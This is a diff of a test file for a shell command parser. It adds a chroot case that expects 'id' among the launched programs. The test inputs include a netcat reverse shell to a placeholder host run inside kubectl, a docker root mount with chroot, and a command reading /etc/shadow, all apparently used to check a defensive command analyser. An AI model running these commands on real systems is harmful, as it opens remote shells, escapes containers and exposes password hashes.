@@ -143,10 +143,12 @@ describe('parseCommandLine: sub-commands', () => {
       programs(`kubectl run x --image=alpine --restart=Never -- sh -c 'nc h 1 -e sh'`),
     ).toEqual(['kubectl', 'sh', 'nc']);
     expect(programs(`kubectl exec -it web -- /bin/bash`)).toEqual(['kubectl', 'bash']);
+    // chroot's own command is a launcher's (command-launchers.ts).
     expect(programs(`docker run --rm -v /:/h alpine sh -c 'chroot /h id'`)).toEqual([
       'docker',
       'sh',
       'chroot',
+      'id',
     ]);
     expect(programs(`sudo podman exec -u 0 db bash -lc "cat /etc/shadow"`)).toEqual([
       'podman',
